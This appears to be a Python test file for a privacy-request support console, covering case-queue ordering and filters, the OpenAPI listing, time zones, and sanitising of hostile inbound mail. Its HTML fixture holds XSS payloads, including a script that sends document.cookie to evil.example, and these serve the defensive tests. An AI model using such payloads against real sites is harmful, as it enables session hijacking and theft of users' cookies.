"""The queue's order and filters, hostile mail HTML rendered inert, the CSP, the OpenAPI."""

from __future__ import annotations

from datetime import datetime
from email.message import EmailMessage
from html.parser import HTMLParser
from zoneinfo import ZoneInfo

from console_helpers import disclosure_case, log_in, open_case

from console.sanitize import clean_html
from console.security import CONTENT_SECURITY_POLICY
from intake.chat import make_update
from workflows.pipeline import ingest

HOSTILE_HTML = """<html><head><style>body{background:url(https://evil.example/bg.png)}</style>
<script src="https://evil.example/x.js"></script></head>
<body><p onclick="steal()">Please delete my account and all my data.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="https://tracker.example/pixel.png" onerror="alert(2)">
<img src="cid:logo@example.com"><a href="javascript:alert(3)">click me</a>
<a href="https://evil.example/phish">log in here</a>
<iframe src="https://evil.example/frame"></iframe><svg onload="alert(4)"></svg>
</body></html>"""


def _hostile_mail() -> bytes:
    message = EmailMessage()
    message["From"] = "mallory@example.net"
    message["To"] = "support@win-techno.com"
    message["Subject"] = "Delete my data <script>alert(5)</script>"
    message["Message-ID"] = "<hostile@example.net>"
    message["Date"] = "Tue, 01 Dec 2026 09:00:00 +0900"
    message.set_content(HOSTILE_HTML, subtype="html")
    return message.as_bytes()


class _Tags(HTMLParser):
    """Every start tag of a page with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _tags(page: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(page)
    return parser.tags


def test_hostile_mail_html_renders_inert_and_the_csp_header_is_sent(client, ws):
    inbound = ingest(ws, _hostile_mail(), "email")
    assert inbound.case_id is not None, inbound.error
    log_in(client, "alice")
    number = client.get("/api/cases").json()["cases"][0]["number"]
    response = client.get(f"/cases/{number}")
    assert response.status_code == 200
    assert response.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
    assert "img-src 'self' data:" in response.headers["content-security-policy"]
    page = response.text
    assert 'class="mail-html"' in page  # the HTML part is shown, sanitised
    tags = _tags(page)
    names = {name for name, _attributes in tags}
    assert not names & {"script", "img", "iframe", "svg", "style", "object", "embed"}
    for name, attributes in tags:
        assert not [key for key in attributes if key.startswith("on")], (name, attributes)
        for key in ("src", "href", "action", "style"):
            value = attributes.get(key)
            if key == "style":
                assert value is None, (name, attributes)
            elif value is not None:
                assert value.startswith("/"), (name, attributes)
                assert "javascript:" not in value.lower()
    assert "Please delete my account" in page
    assert "&lt;script&gt;" in page  # the subject's markup is shown as text


def test_the_sanitiser_keeps_text_and_drops_everything_active():
    cleaned = clean_html(HOSTILE_HTML)
    assert "Please delete my account" in cleaned
    for forbidden in ("<script", "onerror", "onclick", "javascript:", "evil.example", "<img"):
        assert forbidden not in cleaned.lower(), forbidden


def test_the_queue_puts_the_nearest_due_first_and_shows_days_left(client, ws):
    inquiry = open_case(ws, "hanako@example.jp", "What is your privacy policy for cookies?")
    rights = disclosure_case(ws)
    log_in(client, "alice")
    rows = client.get("/api/cases").json()["cases"]
    assert [row["number"] for row in rows] == [rights.number, inquiry.number]
    assert rows[0]["due"] < rows[1]["due"]
    assert all(row["days_left"] > 0 and not row["overdue"] for row in rows)

    ws.clock.advance(days=30)
    rows = client.get("/api/cases").json()["cases"]
    assert all(row["overdue"] for row in rows)
    assert 'class="days overdue"' in client.get("/queue").text


def test_the_queue_filters_by_state_kind_channel_language_and_searches(client, ws):
    inquiry = open_case(ws, "hanako@example.jp", "What is your privacy policy for cookies?")
    rights = disclosure_case(ws)
    chat = ingest(ws, make_update(4242, "個人情報の開示をお願いします。"), "chat")
    log_in(client, "alice")

    def numbers(**query: str) -> set[str]:
        rows = client.get("/api/cases", params=query).json()["cases"]
        return {row["number"] for row in rows}

    every = numbers()
    assert {inquiry.number, rights.number} < every and len(every) == 3
    [chat_number] = every - {inquiry.number, rights.number}
    assert chat.case_id is not None
    assert numbers(kind="inquiry") == {inquiry.number}
    assert numbers(channel="chat") == {chat_number}
    assert numbers(language="ja") == {chat_number}
    assert numbers(state="awaiting_identity") >= {rights.number}
    assert inquiry.number not in numbers(state="awaiting_identity")
    assert numbers(state="closed") == set()
    assert numbers(q="taro yamada") == {rights.number}  # the registry customer's name
    assert numbers(q="COOKIES") == {inquiry.number}  # the message text
    assert numbers(q="100%_") == set()
    page = client.get("/queue", params={"kind": "inquiry"}).text
    assert inquiry.number in page and rights.number not in page


def test_the_openapi_document_lists_the_api_and_not_the_pages(client):
    document = client.get("/api/openapi.json").json()
    paths = set(document["paths"])
    assert {
        "/api/session",
        "/api/login",
        "/api/logout",
        "/api/cases",
        "/api/cases/{number}",
        "/api/cases/{number}/draft",
        "/api/cases/{number}/approve",
        "/api/cases/{number}/reject",
        "/api/cases/{number}/extend",
        "/api/cases/{number}/identity",
    } <= paths
    assert all(path.startswith("/api/") for path in paths)


def test_times_are_shown_in_the_desks_time_zone(client, ws):
    rights = disclosure_case(ws)
    log_in(client, "alice")
    [row] = client.get("/api/cases").json()["cases"]
    due = datetime.fromisoformat(row["due"]).astimezone(ZoneInfo("Asia/Tokyo"))
    page = client.get("/queue").text
    assert due.strftime("%Y-%m-%d %H:%M JST") in page
    assert " UTC" not in page
    assert "JST" in client.get(f"/cases/{rights.number}").text
